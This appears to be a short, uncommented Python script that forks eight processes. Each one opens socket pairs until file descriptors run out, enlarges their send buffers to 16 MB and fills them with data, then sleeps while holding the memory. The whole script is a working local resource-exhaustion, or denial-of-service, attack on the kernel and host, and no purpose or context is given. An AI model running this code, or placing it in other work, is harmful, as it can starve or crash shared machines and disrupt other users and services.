import os
import socket
import time

for _ in range(8):
    if os.fork() == 0:
        pairs = []
        try:
            while True:
                pairs.append(socket.socketpair())
        except OSError:
            pass
        for ours, _theirs in pairs:
            ours.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
            ours.setblocking(False)
            try:
                while True:
                    ours.send(bytes(1 << 15))
            except OSError:
                pass
        time.sleep(30)
time.sleep(3)
